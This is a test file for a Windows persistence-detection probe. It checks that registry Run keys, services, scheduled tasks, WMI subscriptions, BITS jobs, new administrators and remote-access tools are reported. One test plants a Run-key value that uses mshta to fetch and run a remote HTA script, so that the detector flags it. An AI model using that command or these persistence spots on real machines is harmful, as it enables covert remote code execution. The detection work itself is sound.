import { appendFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import type { StateEvent } from '../../../../../main/contract/event.ts'
import {
  createPersistence,
  fillPattern,
  persistenceRows,
} from '../../../../../main/probe/sources/state/persistence.ts'
import type { RegistryPlace } from '../../../../../main/probe/sources/state/rows/row.ts'
import { createManualClock } from '../../../../fakes/manual-clock.ts'
import { createScriptedRun, createSourceBench, type Script, until } from '../../../../fakes/source-bench.ts'
import { createFakeRegistry } from '../../../../fakes/windows-registry.ts'

// Shapes of the tools' output as Microsoft Learn shows them: "schtasks query", "net localgroup", "bitsadmin list",
// and the event schema; the sentences are those of a Japanese Windows.
const task = (name: string, command: string) =>
  `<!-- \\${name} -->\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Settings><Enabled>true</Enabled></Settings><Actions Context="Author"><Exec><Command>${command}</Command><Arguments>/q</Arguments></Exec></Actions></Task>\r\n`
const tasks = (list: string[]) =>
  `<?xml version="1.0" encoding="UTF-16"?>\r\n<Tasks>\r\n${list.join('')}</Tasks>\r\n`
const members = (list: string[]) =>
  `エイリアス名     Administrators\r\nコメント         コンピューター/ドメインに完全なアクセス権があります。\r\n\r\nメンバー\r\n\r\n${'-'.repeat(79)}\r\n${list.join('\r\n')}\r\nコマンドは正常に終了しました。\r\n\r\n`
const subscription = (id: number, command: string) =>
  `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>5861</EventID><TimeCreated SystemTime='2026-11-23T08:00:00Z'/><EventRecordID>${id}</EventRecordID></System><UserData><Operation_ESStoConsumerBinding xmlns='http://manifests.microsoft.com/win/2006/windows/WMI'><Namespace>//./root/subscription</Namespace><ESS>毎時</ESS><CONSUMER>CommandLineEventConsumer=&quot;毎時&quot;</CONSUMER><PossibleCause>Perm. Consumer: instance of CommandLineEventConsumer { CommandLineTemplate = &quot;${command}&quot;; };</PossibleCause></Operation_ESStoConsumerBinding></UserData></Event>`

const watch = async (tools: Partial<Record<string, Script>> = {}) => {
  const home = mkdtempSync(join(tmpdir(), 'win-'))
  const env = Object.fromEntries(
    ['APPDATA', 'LOCALAPPDATA', 'ProgramData', 'SystemRoot', 'ProgramFiles', 'OneDrive'].map((n) => [
      n,
      join(home, n),
    ]),
  )
  const registry = createFakeRegistry()
  const run = createScriptedRun((file, args) => {
    if (file === 'reg') return registry.query(args)
    return tools[file]?.(file, args) ?? { problem: 'not-found' }
  })
  const clock = createManualClock()
  const bench = createSourceBench({ clock, run, home })
  const source = createPersistence({ platform: 'win32', env })
  await source.start(bench.context)
  await until('the first look', () => bench.states.length > 0)
  const look = async () => {
    const before = bench.events.length
    await clock.advance(30_000)
    await until('the end of the look', () => clock.timers() > 0)
    return bench.events.slice(before) as StateEvent[]
  }
  return { home, env, registry, bench, look, clock }
}
const steps = async (look: () => Promise<StateEvent[]>, row: number, moves: (() => void)[]) => {
  const seen: string[] = []
  for (const move of moves) {
    move()
    seen.push(...(await look()).filter((e) => e.details.row === row).map((e) => e.action))
  }
  return seen
}

const rows = persistenceRows('win32')
const registryPlaces = rows.flatMap((row) =>
  row.readers.flatMap((r) => (r.kind === 'registry' ? r.keys.map((k) => [row.row, k] as const) : [])),
)
const filePatterns = rows.flatMap((row) =>
  row.readers.flatMap((r) =>
    r.kind === 'files' ? r.patterns.map((p) => [row.row, p, r.namesOnly ?? false] as const) : [],
  ),
)
/** What two such values hold; a place that takes only some data gets these. */
const exampleData = ({ value, data }: RegistryPlace): [string, string] =>
  !data
    ? ['C:\\Windows\\notepad.exe', 'C:\\Windows\\notepad.exe /x']
    : value === 'Start'
      ? ['0x2', '0x1']
      : ['AnyDesk', 'AnyDesk 9']
const examplePlace = ({ key, deep, value, values, under }: RegistryPlace): [string, string] => [
  `${key}${deep ? '\\{0000-1}' : ''}${under ?? ''}`,
  under ? '' : (value ?? values?.[0] ?? 'Updater'),
]

describe('planted, changed and removed', () => {
  test.each(registryPlaces)('row %i, registry %o', async (row, place) => {
    const { registry, look } = await watch()
    const [key, name] = examplePlace(place)
    const [first, second] = exampleData(place)
    const seen = await steps(look, row, [
      () => registry.set(key, name, first),
      () => registry.set(key, name, second),
      () => registry.remove(key, name),
    ])
    expect([...new Set(seen)]).toEqual(['added', 'changed', 'removed'])
  })
  test.each(filePatterns)('row %i, file %s', async (row, pattern, namesOnly) => {
    const { home, env, look } = await watch()
    const file = fillPattern(pattern, home, env)!.replaceAll('\\', '/').replaceAll('*', 'zz')
    const seen = await steps(look, row, [
      () => {
        mkdirSync(dirname(file), { recursive: true })
        writeFileSync(file, 'notepad\r\n')
      },
      () => appendFileSync(file, 'more\r\n'),
      () => rmSync(file),
    ])
    // Of an extension only its being there is watched.
    expect(seen).toEqual(namesOnly ? ['added', 'removed'] : ['added', 'changed', 'removed'])
  })
  test('row 8, scheduled tasks', async () => {
    let list: string[] = []
    const { look } = await watch({ schtasks: () => ({ stdout: tasks(list) }) })
    const seen = await steps(look, 8, [
      () => (list = [task('経理\\更新', 'notepad.exe')]),
      () => (list = [task('経理\\更新', 'calc.exe')]),
      () => (list = []),
    ])
    expect(seen).toEqual(['added', 'changed', 'removed'])
  })
  test('row 22, a new administrator', async () => {
    let list = ['Administrator', 'sato']
    const { look, bench } = await watch({ net: () => ({ stdout: members(list) }) })
    const seen = await steps(look, 22, [
      () => (list = [...list, 'CORP\\悪い人']),
      () => (list = list.slice(0, 2)),
    ])
    expect(seen).toEqual(['added', 'removed'])
    expect(bench.events[0]).toMatchObject({ subject: 'CORP\\悪い人' })
  })
  test('row 10, a WMI subscription; row 21, a BITS job', async () => {
    let events = ''
    let jobs = ''
    const { look, bench } = await watch({
      wevtutil: () => ({ stdout: events }),
      bitsadmin: () => ({ stdout: jobs }),
    })
    const [first, again, other] = ['notepad.exe', 'notepad.exe', 'calc.exe'].map((c, i) =>
      subscription(5 + i, c),
    )
    // Newest first. Windows tells a subscription again after each start; what leaves the log is not gone from the PC.
    expect(
      await steps(look, 10, [
        () => (events = first!),
        () => (events = again! + first!),
        () => (events = other! + again!),
        () => (events = ''),
      ]),
    ).toEqual(['added', 'changed'])
    expect(bench.events[0]).toMatchObject({ subject: 'WMI 毎時', details: { grave: true } })
    const line = "{6AF46E48-41D3-453F-B7AF-A694BBC823F7} 'x' SUSPENDED 0 / 0 0 / 0\r\n"
    expect(await steps(look, 21, [() => (jobs = line), () => (jobs = '')])).toEqual(['added', 'removed'])
  })
})

test('a user without rights: what cannot be read is said, the rest is watched', async () => {
  const { bench, registry, look } = await watch({
    wevtutil: () => ({ code: 5 }),
    schtasks: () => ({ code: 1 }),
  })
  expect(bench.states.at(-1)).toMatchObject({ state: 'partly', reason: { code: 'places-unread' } })
  registry.set(
    'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    'evil',
    'mshta http://192.0.2.1/a.hta',
  )
  expect(await look()).toMatchObject([
    { action: 'added', details: { signs: ['script-host', 'remote-script'], technique: 'T1547.001' } },
  ])
})

test('a service that becomes automatic is told; what Windows switches to and fro by itself is not', async () => {
  const { registry, look } = await watch()
  const services = 'HKLM\\SYSTEM\\CurrentControlSet\\Services'
  registry.set(`${services}\\Odd`, 'Start', '0x3', 'REG_DWORD')
  registry.set(`${services}\\BITS`, 'Start', '0x3', 'REG_DWORD')
  expect(await look()).toEqual([])
  registry.set(`${services}\\Odd`, 'Start', '0x2', 'REG_DWORD')
  registry.set(`${services}\\BITS`, 'Start', '0x2', 'REG_DWORD')
  expect(await look()).toMatchObject([{ action: 'added', details: { row: 9, commands: ['0x2'] } }])
})

test('what Windows makes anew for each sign-in is no news, what only bears such a name is', async () => {
  const { registry, look } = await watch()
  const services = 'HKLM\\SYSTEM\\CurrentControlSet\\Services'
  const runs = (name: string, command: string) => {
    registry.set(`${services}\\${name}`, 'ImagePath', command, 'REG_EXPAND_SZ')
    registry.set(`${services}\\${name}`, 'Start', '0x2', 'REG_DWORD')
  }
  const gone = (name: string) => {
    for (const value of ['ImagePath', 'Start']) registry.remove(`${services}\\${name}`, value)
  }
  const unistack = 'system32\\svchost.exe -k UnistackSvcGroup'
  runs('CDPUserSvc', `%SystemRoot%\\${unistack}`)
  runs('CDPUserSvc_1a2b3', `%systemroot%\\${unistack}`)
  await look()
  gone('CDPUserSvc_1a2b3')
  runs('CDPUserSvc_4c5d6', `%SystemRoot%\\${unistack}`)
  expect(await look()).toEqual([])
  runs('CDPUserSvc_7e8f9', 'C:\\ProgramData\\x.exe')
  runs('Nobody_7e8f9', `%SystemRoot%\\${unistack}`)
  expect((await look()).map((e) => e.subject.split('\\').slice(-2).join(' ')).sort()).toEqual([
    'CDPUserSvc_7e8f9 ImagePath',
    'CDPUserSvc_7e8f9 Start',
    'Nobody_7e8f9 ImagePath',
    'Nobody_7e8f9 Start',
  ])
})

test('that a logon script of the office ran again is no news', async () => {
  const { registry, look } = await watch()
  const key = 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Group Policy\\Scripts\\Logon\\0\\0'
  registry.set(key, 'Script', 'drives.bat')
  registry.set(key, 'ExecTime', 'EA070B00', 'REG_BINARY')
  expect(await look()).toMatchObject([{ subject: `${key.replace('HKCU', 'HKEY_CURRENT_USER')}\\Script` }])
  registry.set(key, 'ExecTime', 'EA070C00', 'REG_BINARY')
  expect(await look()).toEqual([])
})

test('programs that are installed are no news, but those that let somebody in from far away are', async () => {
  const { registry, look } = await watch()
  const uninstall = 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall'
  registry.set(`${uninstall}\\Kaikei`, 'DisplayName', '会計ソフト 2026')
  registry.set(`${uninstall}\\UltraViewer_is1`, 'DisplayName', 'UltraViewer version 6.6')
  expect(await look()).toMatchObject([
    { action: 'added', details: { place: 'remote-tools-installed', technique: 'T1219' } },
  ])
})
